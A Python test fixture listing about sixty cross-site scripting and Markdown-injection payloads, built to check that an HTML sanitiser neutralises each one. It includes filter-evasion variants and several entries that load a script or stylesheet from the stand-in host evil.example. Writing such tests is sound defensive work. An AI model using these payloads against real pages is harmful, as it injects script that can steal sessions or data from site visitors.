"""What people may type to have a script run: each with `{name}`, so that it is known which field it stands in.

Nothing of it may become an element or an attribute of a page, a link may lead to http, https and mailto alone, and in a
browser `hm_ran` must never be called.
"""

from __future__ import annotations

CALL = "hm_ran('{name}')"
PAYLOADS: dict[str, str] = {
    "script": f"<script>{CALL}</script>",
    "script in capitals": f"<SCRIPT >{CALL}</SCRIPT >",
    "script from elsewhere": "<script src=//evil.example/{name}.js></script>",
    "script in a script": f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "script that closes a script": f"</script><script>{CALL}</script>",
    "module": f"<script type=module>{CALL}</script>",
    "image": f'<img src=x onerror="{CALL}">',
    "image without quotes": "<img src=x onerror=hm_ran(`{name}`)>",
    "image with a slash": "<img/src=x/onerror=hm_ran(`{name}`)>",
    "svg": f"<svg onload={CALL}>",
    "svg with a script": f"<svg><script>{CALL}</script></svg>",
    "svg that is animated": f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    "svg with a link": "<svg><a xlink:href=javascript:hm_ran(`{name}`)><text y=20>x</text></a></svg>",
    "math": "<math><mtext></p><mglyph><style><img src onerror=hm_ran(`{name}`)></style></mglyph></math>",
    "body": f"<body onload={CALL}>",
    "frame": f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    "frame by address": "<iframe src=javascript:parent.hm_ran(`{name}`)></iframe>",
    "object": "<object data=javascript:hm_ran(`{name}`)></object>",
    "embed": "<embed src=javascript:hm_ran(`{name}`)>",
    "form": "<form action=javascript:hm_ran(`{name}`)><button>{name}</button></form>",
    "button": '<button formaction="javascript:hm_ran(`{name}`)">{name}</button>',
    "field": f"<input autofocus onfocus={CALL}>",
    "details": f"<details open ontoggle={CALL}>",
    "video": f"<video><source onerror={CALL}></video>",
    "marquee": f"<marquee onstart={CALL}>{{name}}</marquee>",
    "style": "<style>@import 'javascript:hm_ran(`{name}`)';</style>",
    "style of an element": '<p style="background:url(javascript:hm_ran(`{name}`))">{name}</p>',
    "base": "<base href=javascript:hm_ran(`{name}`)//>",
    "meta": "<meta http-equiv=refresh content='0;url=javascript:hm_ran(`{name}`)'>",
    "link": "<link rel=stylesheet href=//evil.example/{name}.css>",
    "template": f"<template><script>{CALL}</script></template>",
    "attribute": f'" onmouseover="{CALL}" x="',
    "attribute in single quotes": "' onfocus='hm_ran(`{name}`)' autofocus x='",
    "closing": f"</textarea></title></style></script></main><script>{CALL}</script>",
    "comment": f"<!--><script>{CALL}</script>-->",
    "data section": f"<![CDATA[<script>{CALL}</script>]]>",
    "null byte": f"<scr\x00ipt>{CALL}</scr\x00ipt>",
    "entities": "&lt;script&gt;hm_ran('{name}')&lt;/script&gt;",
    "numbers": "&#60;script&#62;hm_ran('{name}')&#60;/script&#62;",
    "wide signs": "＜script＞hm_ran('{name}')＜/script＞",
    "element that nobody knows": "<hmplanted/onclick=hm_ran(`{name}`)>{name}</hmplanted>",
    "link in Markdown": "[{name}](javascript:hm_ran(`{name}`))",
    "link in Markdown in capitals": "[{name}](JaVaScRiPt:hm_ran(1))",
    "link in Markdown with a break": "[{name}](java\nscript:hm_ran(1))",
    "link in Markdown by entities": "[{name}](&#106;avascript:hm_ran(1))",
    "link in Markdown with data": "[{name}](data:text/html;base64,PHNjcmlwdD5obV9yYW4oMSk8L3NjcmlwdD4=)",
    "link in Markdown by vbscript": "[{name}](vbscript:hm_ran(1))",
    "link in Markdown in brackets": "[{name}](<javascript:hm_ran(1)>)",
    "link in Markdown to a place": "[{name}](//evil.example)",
    "link in Markdown with a title": "[{name}](https://example.org \"x' onclick='hm_ran(1)\")",
    "link in Markdown that breaks out": '[{name}](https://example.org/"onclick="hm_ran(1))',
    "address in Markdown": "<javascript:hm_ran('{name}')>",
    "image in Markdown": "![{name}](javascript:hm_ran(1))",
    "image in Markdown from elsewhere": "![{name}](https://evil.example/{name}.png)",
    "reference in Markdown": "[{name}][x]\n\n[x]: javascript:hm_ran(1)",
    "code in Markdown": "```html\"><script>hm_ran('{name}')</script>\n<script>hm_ran(1)</script>\n```",
    "heading in Markdown": "# {name} <script>hm_ran(1)</script>",
    "words of a template": "{{{{ hm_ran('{name}') }}}}{{% raw %}}",
}
"""By what they are called."""


def make_texts(name: str) -> dict[str, str]:
    """Each payload for a field, by what it is called."""
    return {kind: text.format(name=name) for kind, text in PAYLOADS.items()}
